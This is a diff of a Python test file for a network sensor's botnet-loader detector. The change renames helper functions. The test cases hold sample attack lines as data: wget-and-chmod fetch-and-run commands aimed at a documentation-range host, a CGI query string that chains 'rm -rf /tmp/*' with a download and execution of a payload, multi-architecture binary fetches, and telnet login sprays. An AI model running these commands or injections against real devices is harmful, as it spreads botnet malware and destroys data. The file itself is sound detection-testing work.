@@ -12,7 +12,7 @@ from sensor.dissectors.ftp import FtpFile
 from sensor.dissectors.http import HttpRequest
 from sensor.dissectors.telnet import TelnetCommand, TelnetLogin
 from sensor.dissectors.tftp import TftpRead
-from tests.detectors.stories import SECOND, START, World, detector, device, heard, one
+from tests.detectors.stories import SECOND, START, World, detector, device, inspected, one
 
 LOADER = "command_and_control.botnet_loader"
 NEAR, CAMERA, FAR = "10.0.0.66", "10.0.3.5", "203.0.113.9"
@@ -47,8 +47,8 @@ def request(
     return HttpRequest(packet(source, target, 80, at), "GET", host, path, "Wget", "", "", "", "", -1, False, odd=odd)
 
 
-def told(events: list[Event], *devices: object, **options: object) -> list[Alert]:
-    return heard(detector(LOADER, World(*devices), **options), events)  # type: ignore[arg-type]
+def reported(events: list[Event], *devices: object, **options: object) -> list[Alert]:
+    return inspected(detector(LOADER, World(*devices), **options), events)  # type: ignore[arg-type]
 
 
 @pytest.mark.parametrize(
@@ -64,7 +64,7 @@ def told(events: list[Event], *devices: object, **options: object) -> list[Alert
     ],
 )
 def test_lines_that_plant_a_program(line: str, severity: Severity) -> None:
-    alert = one(told([typed(line)]))
+    alert = one(reported([typed(line)]))
     assert (alert.actor.address, alert.target and alert.target.address, alert.severity) == (
         parse(FAR),
         parse(CAMERA),
@@ -76,32 +76,35 @@ def test_lines_that_plant_a_program(line: str, severity: Severity) -> None:
 
 def test_signs_add_up_over_a_session() -> None:
     """Fetched by one line, run by another; a line of another session changes nothing."""
-    found = told([typed("wget http://203.0.113.9/l"), typed("chmod 777 l", 1), typed("chmod 777 x", 1, flow=2)])
+    found = reported([typed("wget http://203.0.113.9/l"), typed("chmod 777 l", 1), typed("chmod 777 x", 1, flow=2)])
     assert [alert.severity for alert in found] == [Severity.medium, Severity.high, Severity.low]
 
 
 def test_a_web_page_that_takes_commands() -> None:
     chain = "/setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/l+-O+/tmp/l;chmod+777+/tmp/l;sh+/tmp/l"
-    alert = one(told([request(chain, CAMERA, source=FAR, target=CAMERA)]))
+    alert = one(reported([request(chain, CAMERA, source=FAR, target=CAMERA)]))
     assert (alert.actor.address, alert.severity, alert.techniques[0].technique) == (parse(FAR), Severity.high, "T1105")
-    assert one(told([request(chain, "forum.example.org", source=NEAR, target=FAR)])).severity == Severity.low
+    assert one(reported([request(chain, "forum.example.org", source=NEAR, target=FAR)])).severity == Severity.low
 
 
 def test_programs_for_several_processors() -> None:
     """Three from a bare address; of a device one is enough; by whatever protocol."""
     alert = one(
-        told([request(f"/bins/l.{each}", source=NEAR, at=n) for n, each in enumerate(("mips", "arm7", "x86", "sh4"))])
+        reported(
+            [request(f"/bins/l.{each}", source=NEAR, at=n) for n, each in enumerate(("mips", "arm7", "x86", "sh4"))]
+        )
     )
     assert (alert.actor.address, alert.target and alert.target.address, alert.numbers["processors"]) == (
         parse(NEAR),
         parse(FAR),
         3,
     )
-    assert one(told([request("/l.mpsl")], device("camera", CAMERA))).severity == Severity.high
+    assert one(reported([request("/l.mpsl")], device("camera", CAMERA))).severity == Severity.high
     tftp, ftp = packet(CAMERA, FAR, 69, proto=17), packet(CAMERA, FAR, 21)
-    assert one(told([TftpRead(tftp, "l.arm", "octet", ())], device("camera", CAMERA))).network["app"] == "tftp"
+    assert one(reported([TftpRead(tftp, "l.arm", "octet", ())], device("camera", CAMERA))).network["app"] == "tftp"
     assert (
-        one(told([FtpFile(ftp, "RETR", "pub/x86_64", "anonymous")], device("camera", CAMERA))).network["app"] == "ftp"
+        one(reported([FtpFile(ftp, "RETR", "pub/x86_64", "anonymous")], device("camera", CAMERA))).network["app"]
+        == "ftp"
     )
 
 
@@ -109,11 +112,11 @@ def test_programs_for_several_processors() -> None:
 def test_a_spray_of_telnet_logins(answer: bool) -> None:
     """At five hosts; graver from a device and from outside."""
     hosts = [login(f"10.0.3.{n}", n, answer=answer) for n in range(1, 7)]
-    alert = one(told(hosts))
+    alert = one(reported(hosts))
     assert (alert.actor.address, alert.severity, alert.numbers["hosts"]) == (parse(NEAR), Severity.medium, 5)
     assert {one.technique for one in alert.techniques} == {"T1110", "T1110.001", "T1110.003"}
-    assert one(told(hosts, device("camera", NEAR))).severity == Severity.high
-    assert one(told([login(f"10.0.3.{n}", n, source=FAR) for n in range(1, 7)])).severity == Severity.high
+    assert one(reported(hosts, device("camera", NEAR))).severity == Severity.high
+    assert one(reported([login(f"10.0.3.{n}", n, source=FAR) for n in range(1, 7)])).severity == Severity.high
 
 
 @pytest.mark.parametrize(
@@ -135,18 +138,18 @@ def test_innocent_twins_are_quiet(events: list[Event]) -> None:
     """A toolbox used, a password forgotten, rounds of an administrator, mirrors of packages, firmware, one program of a
     computer, words in pages.
     """
-    assert told(events, device("camera", CAMERA)) == []
+    assert reported(events, device("camera", CAMERA)) == []
 
 
 def test_managers_are_told_low() -> None:
     assert (
-        one(told([typed("wget http://10.0.0.9/t; chmod +x t; ./t", source=NEAR)], managers=(NEAR,))).severity
+        one(reported([typed("wget http://10.0.0.9/t; chmod +x t; ./t", source=NEAR)], managers=(NEAR,))).severity
         == Severity.low
     )
 
 
 def test_repetition_is_one_finding() -> None:
-    assert len(told([typed("/bin/busybox LZRD", n) for n in range(300)])) == 1
-    found = told([login(f"10.0.{n // 200}.{n % 200}", n) for n in range(400)])
+    assert len(reported([typed("/bin/busybox LZRD", n) for n in range(300)])) == 1
+    found = reported([login(f"10.0.{n // 200}.{n % 200}", n) for n in range(400)])
     assert len(found) < 8
     assert one(found)
